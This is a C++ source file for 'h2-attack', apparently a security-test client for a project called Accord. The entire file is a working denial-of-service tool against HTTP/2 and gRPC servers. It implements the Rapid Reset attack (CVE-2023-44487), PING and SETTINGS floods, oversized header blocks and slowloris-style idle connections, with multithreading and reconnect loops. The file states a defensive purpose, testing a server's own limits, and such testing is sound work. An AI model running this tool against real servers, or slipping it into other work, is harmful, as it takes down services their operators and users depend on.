// h2-attack: a hostile HTTP/2 client for Accord's security tests and
// benchmarks. It speaks HTTP/2 with Debian's libnghttp2 over mutual TLS
// (OpenSSL, ALPN h2) with a partnership certificate, so it gets past the
// handshake like any partner, and then abuses the connection:
//
//   rapid-reset  opens streams (gRPC request headers) and resets each at once
//                (RST_STREAM CANCEL), CVE-2023-44487;
//   ping         sends PING frames;
//   settings     sends SETTINGS frames;
//   headers      opens streams whose header block is over 16 KiB;
//   idle         opens --connections connections and sends nothing more
//                (slowloris);
//   tcp-idle     opens --connections TCP connections and never starts TLS.
//
//   h2-attack --address HOST:PORT --ca CA.pem --cert CERT.pem --key KEY.pem
//             --mode MODE [--duration S] [--rate N] [--connections N]
//             [--parallel N] [--reconnect] [--path /accord.v1.Gateway/Query]
//
// --rate bounds frames (streams, pings, settings) per second per connection
// (0, the default: as fast as the connection takes them). --reconnect opens a
// new connection whenever the server closes one, until --duration ends.
// --parallel attacks over that many connections at once (threads).
// At the end it prints one line of key=value pairs:
//
//   h2-attack mode=rapid-reset connections=3 streams=2400 resets=2400 ...
//     closed_by_server=3 goaways=0 last_goaway_code=-1 first_close_ms=212
//
// `closed_by_server` counts connections the server ended (GOAWAY or the TCP
// connection closed) before --duration; `first_close_ms` is when the first
// was ended, from its start (-1: none was).
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <nghttp2/nghttp2.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cinttypes>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

enum class Mode { kRapidReset, kPing, kSettings, kHeaders, kIdle, kTcpIdle };

struct Options {
  std::string host = "127.0.0.1";
  int port = 0;
  std::string ca, cert, key;
  Mode mode = Mode::kRapidReset;
  std::string mode_name = "rapid-reset";
  double duration_s = 5;
  double rate = 0;
  int connections = 1;
  int parallel = 1;
  bool reconnect = false;
  std::string path = "/accord.v1.Gateway/Query";
};

// Shared by the --parallel threads.
struct Totals {
  std::atomic<uint64_t> connections{0};
  std::atomic<uint64_t> connect_failures{0};
  std::atomic<uint64_t> streams{0};
  std::atomic<uint64_t> resets{0};
  std::atomic<uint64_t> pings{0};
  std::atomic<uint64_t> settings{0};
  std::atomic<uint64_t> closed_by_server{0};
  std::atomic<uint64_t> goaways{0};
  std::atomic<int64_t> last_goaway_code{-1};
  std::atomic<int64_t> first_close_ms{-1};
  std::mutex mu;
  std::string first_error;  // guarded by mu
};

[[noreturn]] void Usage(const std::string& error) {
  std::fprintf(stderr,
               "h2-attack: %s\n"
               "usage: h2-attack --address HOST:PORT --ca FILE --cert FILE "
               "--key FILE\n"
               "                 --mode rapid-reset|ping|settings|headers|idle|"
               "tcp-idle\n"
               "                 [--duration S] [--rate N] [--connections N] "
               "[--parallel N] [--reconnect] [--path P]\n",
               error.c_str());
  std::exit(2);
}

std::string SslError() {
  const unsigned long e = ERR_get_error();
  if (e == 0) return std::strerror(errno);
  char buf[256];
  ERR_error_string_n(e, buf, sizeof(buf));
  return buf;
}

int ConnectTcp(const Options& o, std::string* error) {
  addrinfo hints{};
  hints.ai_family = AF_UNSPEC;
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* res = nullptr;
  const std::string port = std::to_string(o.port);
  if (getaddrinfo(o.host.c_str(), port.c_str(), &hints, &res) != 0) {
    *error = "cannot resolve " + o.host;
    return -1;
  }
  int fd = -1;
  for (addrinfo* ai = res; ai != nullptr; ai = ai->ai_next) {
    fd = socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
    if (fd < 0) continue;
    if (connect(fd, ai->ai_addr, ai->ai_addrlen) == 0) break;
    close(fd);
    fd = -1;
  }
  freeaddrinfo(res);
  if (fd < 0) {
    *error = std::string("connect: ") + std::strerror(errno);
    return -1;
  }
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  return fd;
}

// One HTTP/2 connection over TLS, driven from one thread.
class Connection {
 public:
  Connection(const Options& o, SSL_CTX* ctx, Totals* totals)
      : o_(o), ctx_(ctx), totals_(totals) {}
  ~Connection() {
    if (session_ != nullptr) nghttp2_session_del(session_);
    if (ssl_ != nullptr) SSL_free(ssl_);
    if (fd_ >= 0) close(fd_);
  }

  // TCP, TLS (ALPN h2), the connection preface and an empty SETTINGS.
  bool Open(std::string* error) {
    fd_ = ConnectTcp(o_, error);
    if (fd_ < 0) return false;
    started_ = Clock::now();
    if (o_.mode == Mode::kTcpIdle) return true;
    ssl_ = SSL_new(ctx_);
    SSL_set_fd(ssl_, fd_);
    if (SSL_connect(ssl_) != 1) {
      *error = "TLS handshake: " + SslError();
      return false;
    }
    const unsigned char* alpn = nullptr;
    unsigned int alpn_len = 0;
    SSL_get0_alpn_selected(ssl_, &alpn, &alpn_len);
    if (alpn_len != 2 || std::memcmp(alpn, "h2", 2) != 0) {
      *error = "the server did not select ALPN h2";
      return false;
    }
    fcntl(fd_, F_SETFL, fcntl(fd_, F_GETFL) | O_NONBLOCK);
    nghttp2_session_callbacks* cbs;
    nghttp2_session_callbacks_new(&cbs);
    nghttp2_session_callbacks_set_on_frame_recv_callback(cbs, OnFrameRecv);
    nghttp2_session_client_new(&session_, cbs, this);
    nghttp2_session_callbacks_del(cbs);
    nghttp2_submit_settings(session_, NGHTTP2_FLAG_NONE, nullptr, 0);
    Drain();
    return Flush();
  }

  // Works until `deadline` or until the server ends the connection; returns
  // whether the server ended it.
  bool Run(Clock::time_point deadline) {
    uint64_t sent = 0;
    while (Clock::now() < deadline && !closed_) {
      if (o_.mode == Mode::kIdle || o_.mode == Mode::kTcpIdle) {
        Wait(50);
        Read();
        continue;
      }
      // Frames due by now at --rate, in batches so that each TLS record
      // carries many of them.
      uint64_t due = sent + 64;
      if (o_.rate > 0) {
        const double elapsed =
            std::chrono::duration<double>(Clock::now() - started_).count();
        due = std::min<uint64_t>(due, static_cast<uint64_t>(elapsed * o_.rate));
      }
      if (out_.size() < (1 << 20)) {
        for (; sent < due; ++sent) Submit();
      }
      if (!Flush()) break;
      Read();
      if (!out_.empty() || (o_.rate > 0 && sent >= due)) Wait(1);
    }
    return closed_;
  }

  // Reads what has arrived; returns whether the server has ended the
  // connection.
  bool Poll() {
    Read();
    return closed_;
  }

  int64_t age_ms() const {
    return std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() -
                                                                 started_)
        .count();
  }

 private:
  static int OnFrameRecv(nghttp2_session*, const nghttp2_frame* frame,
                         void* user) {
    auto* self = static_cast<Connection*>(user);
    if (frame->hd.type == NGHTTP2_GOAWAY) {
      ++self->totals_->goaways;
      self->totals_->last_goaway_code = frame->goaway.error_code;
      self->goaway_ = true;
    }
    return 0;
  }

  void Submit() {
    switch (o_.mode) {
      case Mode::kRapidReset: {
        const int32_t id = SubmitRequest(false);
        if (id <= 0) return;
        Drain();  // the HEADERS go out before the reset
        nghttp2_submit_rst_stream(session_, NGHTTP2_FLAG_NONE, id,
                                  NGHTTP2_CANCEL);
        ++totals_->resets;
        break;
      }
      case Mode::kHeaders:
        SubmitRequest(true);
        break;
      case Mode::kPing: {
        uint8_t opaque[8] = {};
        const uint64_t n = totals_->pings++;
        std::memcpy(opaque, &n, sizeof(opaque));
        nghttp2_submit_ping(session_, NGHTTP2_FLAG_NONE, opaque);
        break;
      }
      case Mode::kSettings: {
        nghttp2_settings_entry iv{
            NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE,
            static_cast<uint32_t>(65535 + (toggle_ ^= 1))};
        nghttp2_submit_settings(session_, NGHTTP2_FLAG_NONE, &iv, 1);
        ++totals_->settings;
        break;
      }
      case Mode::kIdle:
      case Mode::kTcpIdle:
        break;
    }
    Drain();
  }

  // A gRPC request's headers (no message); with `oversized`, plus 48 headers
  // of 400 bytes each, over any 16 KiB metadata limit.
  int32_t SubmitRequest(bool oversized) {
    static const std::string filler(400, 'x');
    std::vector<std::string> names;
    std::vector<nghttp2_nv> nva;
    auto add = [&](const std::string& n, const std::string& v) {
      nva.push_back(
          nghttp2_nv{reinterpret_cast<uint8_t*>(const_cast<char*>(n.data())),
                     reinterpret_cast<uint8_t*>(const_cast<char*>(v.data())),
                     n.size(), v.size(), NGHTTP2_NV_FLAG_NO_INDEX});
    };
    static const std::string kMethod = ":method", kPost = "POST",
                             kScheme = ":scheme", kHttps = "https",
                             kPathName = ":path", kAuthority = ":authority",
                             kHost = "localhost", kType = "content-type",
                             kGrpc = "application/grpc", kTe = "te",
                             kTrailers = "trailers";
    add(kMethod, kPost);
    add(kScheme, kHttps);
    add(kPathName, o_.path);
    add(kAuthority, kHost);
    add(kType, kGrpc);
    add(kTe, kTrailers);
    if (oversized) {
      names.reserve(48);
      for (int i = 0; i < 48; ++i)
        names.push_back("x-flood-" + std::to_string(i));
      for (const auto& n : names) add(n, filler);
    }
    const int32_t id = nghttp2_submit_headers(
        session_, oversized ? NGHTTP2_FLAG_END_STREAM : NGHTTP2_FLAG_NONE, -1,
        nullptr, nva.data(), nva.size(), nullptr);
    if (id > 0) ++totals_->streams;
    return id;
  }

  // Moves what nghttp2 has to send into out_.
  void Drain() {
    const uint8_t* data;
    ssize_t n;
    while ((n = nghttp2_session_mem_send(session_, &data)) > 0) {
      out_.append(reinterpret_cast<const char*>(data), static_cast<size_t>(n));
    }
  }

  // Writes as much of out_ as the socket takes now.
  bool Flush() {
    if (ssl_ == nullptr) return true;
    while (!out_.empty()) {
      const int n =
          SSL_write(ssl_, out_.data(),
                    static_cast<int>(std::min<size_t>(out_.size(), 1 << 16)));
      if (n > 0) {
        out_.erase(0, static_cast<size_t>(n));
        continue;
      }
      const int err = SSL_get_error(ssl_, n);
      if (err == SSL_ERROR_WANT_WRITE || err == SSL_ERROR_WANT_READ)
        return true;
      MarkClosed();
      return false;
    }
    return true;
  }

  void Read() {
    char buf[1 << 16];
    while (!closed_) {
      if (ssl_ == nullptr) {
        const ssize_t n = recv(fd_, buf, sizeof(buf), MSG_DONTWAIT);
        if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK)) {
          MarkClosed();
        }
        return;
      }
      const int n = SSL_read(ssl_, buf, sizeof(buf));
      if (n > 0) {
        if (nghttp2_session_mem_recv(session_,
                                     reinterpret_cast<const uint8_t*>(buf),
                                     static_cast<size_t>(n)) < 0) {
          MarkClosed();
          return;
        }
        Drain();
        if (goaway_) MarkClosed();
        continue;
      }
      const int err = SSL_get_error(ssl_, n);
      if (err == SSL_ERROR_WANT_READ || err == SSL_ERROR_WANT_WRITE) return;
      MarkClosed();
      return;
    }
  }

  void Wait(int ms) {
    pollfd p{fd_, static_cast<short>(POLLIN | (out_.empty() ? 0 : POLLOUT)), 0};
    poll(&p, 1, ms);
  }

  void MarkClosed() {
    if (closed_) return;
    closed_ = true;
    ++totals_->closed_by_server;
    int64_t none = -1;
    totals_->first_close_ms.compare_exchange_strong(none, age_ms());
  }

  const Options& o_;
  SSL_CTX* ctx_;
  Totals* totals_;
  int fd_ = -1;
  SSL* ssl_ = nullptr;
  nghttp2_session* session_ = nullptr;
  std::string out_;
  Clock::time_point started_ = Clock::now();
  bool closed_ = false;
  bool goaway_ = false;
  int toggle_ = 0;
};

SSL_CTX* MakeTlsContext(const Options& o) {
  SSL_CTX* ctx = SSL_CTX_new(TLS_client_method());
  SSL_CTX_set_min_proto_version(ctx, TLS1_2_VERSION);
  if (SSL_CTX_use_certificate_chain_file(ctx, o.cert.c_str()) != 1 ||
      SSL_CTX_use_PrivateKey_file(ctx, o.key.c_str(), SSL_FILETYPE_PEM) != 1 ||
      SSL_CTX_load_verify_locations(ctx, o.ca.c_str(), nullptr) != 1) {
    Usage("cannot load the certificate, key or CA: " + SslError());
  }
  // The server's chain must end at the partnership CA; its name is not
  // checked (the attacker does not care whom it attacks).
  SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, nullptr);
  static const unsigned char kAlpn[] = {2, 'h', '2'};
  SSL_CTX_set_alpn_protos(ctx, kAlpn, sizeof(kAlpn));
  SSL_CTX_set_mode(
      ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
  return ctx;
}

Options Parse(int argc, char** argv) {
  Options o;
  for (int i = 1; i < argc; ++i) {
    const std::string flag = argv[i];
    if (flag == "--reconnect") {
      o.reconnect = true;
      continue;
    }
    if (i + 1 >= argc) Usage("flag " + flag + " needs a value");
    const std::string value = argv[++i];
    if (flag == "--address") {
      const size_t colon = value.rfind(':');
      if (colon == std::string::npos) Usage("--address must be HOST:PORT");
      o.host = value.substr(0, colon);
      o.port = std::atoi(value.c_str() + colon + 1);
    } else if (flag == "--ca") {
      o.ca = value;
    } else if (flag == "--cert") {
      o.cert = value;
    } else if (flag == "--key") {
      o.key = value;
    } else if (flag == "--mode") {
      static const std::pair<const char*, Mode> kModes[] = {
          {"rapid-reset", Mode::kRapidReset},
          {"ping", Mode::kPing},
          {"settings", Mode::kSettings},
          {"headers", Mode::kHeaders},
          {"idle", Mode::kIdle},
          {"tcp-idle", Mode::kTcpIdle}};
      bool found = false;
      for (const auto& [name, mode] : kModes) {
        if (value == name) {
          o.mode = mode;
          o.mode_name = name;
          found = true;
        }
      }
      if (!found) Usage("unknown --mode " + value);
    } else if (flag == "--duration") {
      o.duration_s = std::atof(value.c_str());
    } else if (flag == "--rate") {
      o.rate = std::atof(value.c_str());
    } else if (flag == "--connections") {
      o.connections = std::atoi(value.c_str());
    } else if (flag == "--parallel") {
      o.parallel = std::atoi(value.c_str());
    } else if (flag == "--path") {
      o.path = value;
    } else {
      Usage("unknown flag " + flag);
    }
  }
  if (o.port <= 0 || o.port > 65535) Usage("--address HOST:PORT is required");
  if (o.mode != Mode::kTcpIdle &&
      (o.ca.empty() || o.cert.empty() || o.key.empty()))
    Usage("--ca, --cert and --key are required");
  if (o.connections < 1) Usage("--connections must be at least 1");
  if (o.parallel < 1 || o.parallel > 64) Usage("--parallel must be 1..64");
  if (o.duration_s <= 0) Usage("--duration must be positive");
  return o;
}

}  // namespace

int main(int argc, char** argv) {
  signal(SIGPIPE, SIG_IGN);
  const Options o = Parse(argc, argv);
  SSL_CTX* ctx = o.mode == Mode::kTcpIdle ? nullptr : MakeTlsContext(o);
  Totals totals;
  const auto start = Clock::now();
  const auto deadline =
      start + std::chrono::duration_cast<Clock::duration>(
                  std::chrono::duration<double>(o.duration_s));

  auto open = [&]() -> std::unique_ptr<Connection> {
    auto c = std::make_unique<Connection>(o, ctx, &totals);
    std::string error;
    if (!c->Open(&error)) {
      ++totals.connect_failures;
      std::lock_guard<std::mutex> lock(totals.mu);
      if (totals.first_error.empty()) totals.first_error = error;
      return nullptr;
    }
    ++totals.connections;
    return c;
  };

  if (o.mode == Mode::kIdle || o.mode == Mode::kTcpIdle) {
    // Many quiet connections at once: how long does the server keep them?
    std::vector<std::unique_ptr<Connection>> open_now;
    for (int i = 0; i < o.connections; ++i) {
      if (auto c = open()) open_now.push_back(std::move(c));
    }
    while (Clock::now() < deadline) {
      bool any_open = false;
      for (auto& c : open_now) any_open |= !c->Poll();
      if (!any_open) break;
      usleep(50 * 1000);
    }
  } else {
    // On each of --parallel threads, one connection at a time,
    // `--connections` in turn (or again and again with --reconnect) until
    // the deadline.
    auto attack = [&] {
      int opened = 0;
      while (Clock::now() < deadline &&
             (o.reconnect || opened < o.connections)) {
        auto c = open();
        ++opened;
        if (c == nullptr) {
          usleep(10 * 1000);
          continue;
        }
        c->Run(deadline);
      }
    };
    std::vector<std::thread> threads;
    for (int i = 0; i < o.parallel; ++i) threads.emplace_back(attack);
    for (auto& t : threads) t.join();
  }

  const double elapsed =
      std::chrono::duration<double>(Clock::now() - start).count();
  std::printf(
      "h2-attack mode=%s connections=%" PRIu64 " connect_failures=%" PRIu64
      " streams=%" PRIu64 " resets=%" PRIu64 " pings=%" PRIu64
      " settings=%" PRIu64 " closed_by_server=%" PRIu64 " goaways=%" PRIu64
      " last_goaway_code=%" PRId64 " first_close_ms=%" PRId64
      " elapsed_s=%.2f\n",
      o.mode_name.c_str(), totals.connections.load(),
      totals.connect_failures.load(), totals.streams.load(),
      totals.resets.load(), totals.pings.load(), totals.settings.load(),
      totals.closed_by_server.load(), totals.goaways.load(),
      totals.last_goaway_code.load(), totals.first_close_ms.load(), elapsed);
  if (!totals.first_error.empty()) {
    std::fprintf(stderr, "h2-attack: first error: %s\n",
                 totals.first_error.c_str());
  }
  if (ctx != nullptr) SSL_CTX_free(ctx);
  return totals.connections > 0 ? 0 : 1;
}
